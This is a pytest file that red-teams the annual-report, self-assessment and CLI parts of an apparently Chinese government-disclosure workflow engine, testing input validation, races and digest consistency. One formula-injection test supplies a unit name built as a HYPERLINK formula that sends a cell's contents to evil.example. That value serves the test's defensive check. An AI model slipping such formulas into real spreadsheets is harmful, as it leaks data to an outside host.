"""Red team on the annual report and the half-yearly self-assessment (issue 13): an auditor recounting, a forger,
a careless clerk. Each test states what the engine should do; it fails while the finding stands."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from tests.cli_helpers import ok_json, one_error_line, run, snapshot
from tests.conftest import ADMIN, new_info, publish, to_head_approval
from tests.requesting import TZ, Clock, cli_world, seeded
from workflow import Workflow
from workflow.errors import AlreadyExists, InvalidInput

FIGURES = {"licensing": 12, "penalties": 3, "coercion": 0, "fees": "1.25"}


@pytest.fixture
def clock() -> Clock:
    return Clock(date(2025, 1, 6))  # early: a test moves it forward, never back


@pytest.fixture
def lwf(sqlite_url: str, clock: Clock) -> Iterator[Workflow]:
    w = seeded(sqlite_url, clock)
    yield w
    w.close()


def _publish_report(wf: Workflow, year: int, statistics: dict[str, object]) -> str:
    item = wf.file_annual_report(year, unit="gov", drafter="clerk", statistics=statistics).item
    publish(wf, item.id)
    return item.id


# -- the figures of table 二 (statistics) ------------------------------------------------------------------------


def test_an_item_that_states_no_figures_still_verifies(lwf: Workflow) -> None:
    """A careless clerk's form sends `statistics={}`: it is accepted and signed as `{"statistics": {}}`, but the row
    stores NULL, so verify recomputes the content without the key and reports the honest item as altered
    ("content differs from what was last signed"). One empty mapping breaks `zwgk verify` for the whole office."""
    with pytest.raises(InvalidInput, match="at least one"):  # the fix: an empty mapping states nothing, refused
        new_info(lwf, statistics={})
    assert lwf.verify().ok, lwf.verify().problems


def test_a_figure_too_long_to_write_is_refused_as_input(lwf: Workflow) -> None:
    """A decision count has no upper bound: 10**5000 passes `catalog.statistics` and then fails inside the signing
    (Python's int-to-text limit) with a bare ValueError, not a typed InvalidInput; a count past any office's reach
    (10**18 decisions) is signed as the year's figure."""
    with pytest.raises(InvalidInput):
        new_info(lwf, statistics={"licensing": 10**5000})
    with pytest.raises(InvalidInput):
        new_info(lwf, statistics={"penalties": 10**18})


def test_fees_are_written_in_ascii_digits(lwf: Workflow) -> None:
    """The fee check is `\\d` on str, which takes any Unicode digit: a clerk typing with a Chinese IME signs
    "１２.５" (full-width), and "٣" (Arabic-Indic) passes too. The signed figure of table 二 is then text no
    spreadsheet or recount reads as 12.5."""
    with pytest.raises(InvalidInput):
        new_info(lwf, statistics={"fees": "１２.５"})
    with pytest.raises(InvalidInput):
        new_info(lwf, statistics={"fees": "٣"})


def test_a_later_draft_does_not_overrule_the_published_report_s_figures(lwf: Workflow, clock: Clock) -> None:
    """`annual.stated` takes the figures of the annual-report item with the greatest id, whatever its state: after
    the year's report is reviewed and published, any drafter who makes another draft of the schedule for that year
    (new_item accepts it) silently replaces table 二's figures in `annual_report`, unreviewed. The figures should be
    those of the report item that went through review (or the draft being filed), never any draft."""
    clock.to(date(2027, 1, 11))
    published = _publish_report(lwf, 2026, FIGURES)
    with pytest.raises(AlreadyExists):  # the fix: a year has one report item (and its figures are the published's)
        lwf.new_item(title="年度报告（另稿）", unit="gov", category="6", timing="periodic", kind="info",
                     drafter="drafter2", schedule="annual-report", period="2026",
                     statistics={"licensing": 9999, "fees": "0"})
    report = lwf.annual_report(2026, unit="gov")
    assert (report.statistics_item, report.statistics) == (published, FIGURES)


def test_one_annual_report_item_per_unit_and_year(lwf: Workflow, clock: Clock) -> None:
    """Nothing holds a unit to one annual-report item per year: `_report_item` reads, then `new_item` writes, in two
    transactions, so two clerks filing at once (or one filing while another makes the item by hand) make two
    drafts for the same year, and which one's figures and document count depends on the order of their ids."""
    clock.to(date(2027, 1, 11))
    first = lwf.file_annual_report(2026, unit="gov", drafter="clerk", statistics=FIGURES).item
    with pytest.raises(AlreadyExists, match="has its annual-report of 2026 already"):
        lwf.new_item(title="年度报告", unit="gov", category="6", timing="periodic", kind="info", drafter="drafter2",
                     schedule="annual-report", period="2026")
    assert lwf.file_annual_report(2026, unit="gov", drafter="clerk").item.id == first.id


def test_a_retracted_report_can_be_filed_again(lwf: Workflow, clock: Clock) -> None:
    """A published annual report found wrong is retracted (撤回, a final state); the office must then publish a
    corrected one (Art. 49). `file_annual_report` refuses for good: "return it to draft to file it again", which
    no pipeline allows from retracted (or published, or withheld). The year can never be reported again."""
    clock.to(date(2027, 1, 11))
    wrong = _publish_report(lwf, 2026, FIGURES)
    lwf.advance(wrong, "retract", actor="head", reason="行政许可数字有误")
    fixed = lwf.file_annual_report(2026, unit="gov", drafter="clerk", statistics=FIGURES | {"licensing": 13}).item
    assert fixed.id != wrong and fixed.state == "draft"
    report = lwf.annual_report(2026, unit="gov")
    assert (report.statistics_item, report.statistics["licensing"]) == (fixed.id, 13)


def test_the_figures_are_those_signed_by_the_seal_the_report_names(lwf: Workflow, clock: Clock) -> None:
    """`annual_report` seals, then reads in a second transaction: the events are cut at the seal, but the figures
    (and the items' facts) are today's rows. A figure signed between the seal and the read (another process; here a
    subscriber standing in for it, deterministically) is printed under a digest that does not cover it, so a
    recount at that digest cannot give the report's numbers."""
    clock.to(date(2027, 1, 11))
    item = lwf.file_annual_report(2026, unit="gov", drafter="clerk", statistics=FIGURES).item.id
    changed: list[bool] = []

    def meanwhile(sig: object) -> None:
        if getattr(sig, "action", None) == "seal" and not changed:
            changed.append(True)
            lwf.edit_item(item, actor="clerk", statistics=FIGURES | {"licensing": 500})

    lwf.subscribe(meanwhile)
    report = lwf.annual_report(2026, unit="gov")
    assert changed
    seal_seq = int(report.digest.split(":")[0])
    after = [s for s in lwf.history(item) if s.action == "edit" and (s.register_seq or 0) >= seal_seq]
    assert after, "the edit came after the seal the report names"
    assert report.statistics == FIGURES


def test_the_annual_report_does_not_hang_on_a_schedule_the_configuration_may_drop(sqlite_url: str) -> None:
    """The README: "Writing any [[schedule]] replaces the built-in list". A township that writes its own quarterly
    schedule loses the annual-report duty (Art. 49, the law's, not local practice) without a word, and
    `file_annual_report` then refuses ("no periodic schedule 'annual-report'"). Either the configuration keeps (or
    insists on) the annual-report schedule, or filing does not need it."""
    from workflow.config import ConfigError, parse

    own = {"schedule": [{"id": "finance", "title": "财务收支", "cycle": "quarterly", "due_days": 15, "role": "drafter",
                         "category": "3.4"}]}
    try:
        config = parse(own, source="zwgk.toml")
    except ConfigError:
        return  # refused with the reason: also a fix
    wf = seeded(sqlite_url, Clock(date(2027, 1, 11)), config=config)
    try:
        assert wf.file_annual_report(2026, unit="gov", drafter="clerk").item.period == "2026"
    finally:
        wf.close()


@pytest.mark.xfail(strict=True, reason="open: a request registered after its year was reported, with a receipt day in "
                   "that year, needs a ruling (refuse, or show as an adjustment in the next report); see the note")
def test_a_year_s_carried_out_is_the_next_year_s_carried_in(lwf: Workflow, clock: Clock) -> None:
    """A request that came by post on 30 Dec is registered on 11 Jan with its receipt day (allowed). The 2026 report
    counted on 11 Jan before it says 结转下年度 1; the 2027 report says 上年结转 2. Two published reports of one office
    disagree, and nothing in either says why: a receipt backdated into a year whose report is counted should be
    refused past that seal, or shown as an adjustment in the next report."""
    from tests.requesting import new_request

    clock.to(date(2026, 12, 28))
    new_request(lwf)
    clock.to(date(2027, 1, 11))
    carried_out = lwf.annual_report(2026, unit="gov").identity[3]
    new_request(lwf, received_on=date(2026, 12, 30))
    assert lwf.annual_report(2027, unit="gov").identity[1] == carried_out


# -- table 二: documents made, abolished, in force ---------------------------------------------------------------


@pytest.mark.xfail(strict=True, reason="open: whether a 行政规范性文件 may be 撤回 (rather than 废止) needs a ruling; "
                   "until then a retraction leaves 现行有效 uncounted; see the note")
def test_a_retracted_document_leaves_force_only_by_a_counted_step(lwf: Workflow, clock: Clock) -> None:
    """A 行政规范性文件 published in 2025 and retracted (撤回) in 2026 is in force at the end of 2025, and at the end
    of 2026 neither in force nor abolished: it vanishes from table 二 uncounted, so 上年现行有效 + 本年制发 − 本年废止
    ≠ 现行有效. A head can thus drop a document from the table without the 废止 the format counts. Either a
    document is retracted only by abolishing it, or a retraction is counted."""
    clock.to(date(2025, 3, 3))
    doc = new_info(lwf, kind="policy", category="1.1", timing="long_term", doc_type="normative")
    publish(lwf, doc)
    clock.to(date(2026, 3, 2))
    lwf.advance(doc, "retract", actor="head", reason="发布有误")
    before = lwf.annual_report(2025, unit="gov").documents
    now = lwf.annual_report(2026, unit="gov").documents
    assert before.value("normative", "in_force") == 1
    assert (before.value("normative", "in_force") + now.value("normative", "made")
            - now.value("normative", "abolished")) == now.value("normative", "in_force")


# -- the report's outputs -----------------------------------------------------------------------------------------


def test_a_unit_name_is_never_a_formula_in_the_workbook(lwf: Workflow, clock: Clock) -> None:
    """openpyxl stores a string that starts with "=" as a formula: a unit named `=HYPERLINK(...)` (add_unit takes
    it) becomes a live formula in the 说明 sheet and in each table's title row of the XLSX an auditor opens (CSV/
    formula injection). Text must be stored as text."""
    from openpyxl import load_workbook

    from workflow.report import render

    name = '=HYPERLINK("http://evil.example/?"&A1,"平田乡人民政府")'
    lwf.add_unit("v1", name=name, kind="government", by=ADMIN)
    report = lwf.annual_report(2026, unit="v1")
    wb = load_workbook(io.BytesIO(render.to_xlsx(report, name)))
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


# -- the self-assessment ------------------------------------------------------------------------------------------


def test_a_stay_still_open_at_the_period_s_end_is_seen(lwf: Workflow, clock: Clock) -> None:
    """Stage durations count only stays that *ended* in the period: an item that waits in 主要领导同意 from
    February to the end of June (five months) is not in the half-year's stages at all (0 stays, no median), the
    very case the chart is for ("so a leader sees at a glance where items wait"). A stay open at the period's end
    should be counted up to that end (or listed)."""
    clock.to(date(2026, 2, 2))
    waiting = new_info(lwf)
    to_head_approval(lwf, waiting)
    clock.to(date(2026, 7, 6))
    stage = next(s for s in lwf.self_assessment("2026H1", unit="gov").stages
                 if (s.kind, s.state) == ("item", "head_approval"))
    assert stage.stays == 1 and stage.median is not None and stage.median > 140


def test_an_event_at_23_30_on_30_june_office_time_is_in_the_first_half(lwf: Workflow, clock: Clock) -> None:
    """(A control: holds.) The half-year's edge is the office's midnight, not UTC's."""
    clock.to(date(2026, 6, 30))
    item = new_info(lwf)
    to_head_approval(lwf, item)
    lwf.advance(item, "approve", actor="head")
    clock.now = datetime(2026, 6, 30, 23, 30, tzinfo=TZ).astimezone(UTC)
    lwf.advance(item, "publish", actor="clerk")
    clock.to(date(2026, 7, 6))
    assert item in lwf.self_assessment("2026H1", unit="gov").published
    assert item not in lwf.self_assessment("2026H2", unit="gov").published


# -- the CLI --------------------------------------------------------------------------------------------------------


def test_a_file_that_cannot_be_written_files_nothing(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """`zwgk report annual ... --file-as clerk --out missing/dir/r.docx`: the report is filed (an item created,
    signed twice, a document stored) and only then does writing the file fail; the clerk sees an error and runs it
    again, and the log keeps a filing nobody saw. Check the output path first (as `report self-assessment` does with
    a UsageError), and write nothing on refusal."""
    db = cli_world(capsys, tmp_path, monkeypatch)
    before = snapshot(db)
    code, _, err = run(capsys, "report", "annual", "2026", "--unit", "gov", "--format", "docx", "--file-as", "clerk",
                       "--out", str(tmp_path / "missing" / "r.docx"))
    assert code == 2 and one_error_line(err)
    assert snapshot(db) == before


def test_the_file_written_is_the_report_filed(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """With --file-as, the CLI files the report (counted at one seal) and then counts it again at a second seal
    for the file it writes: the DOCX on the clerk's disk and its printed digest are not the DOCX the item carries
    and the digest the item's body names. The clerk prints one report; the office publishes another."""
    cli_world(capsys, tmp_path, monkeypatch)
    done = ok_json(capsys, "report", "annual", "2026", "--unit", "gov", "--format", "docx", "--file-as", "clerk")
    shown = ok_json(capsys, "item", "show", done["item"])
    named = re.search(r"根摘要 (\d+:[0-9a-f]+)", shown["body"])
    assert named is not None and named.group(1) == done["digest"]
    import hashlib

    assert hashlib.sha256((tmp_path / done["file"]).read_bytes()).hexdigest() == shown["attachments"][0]
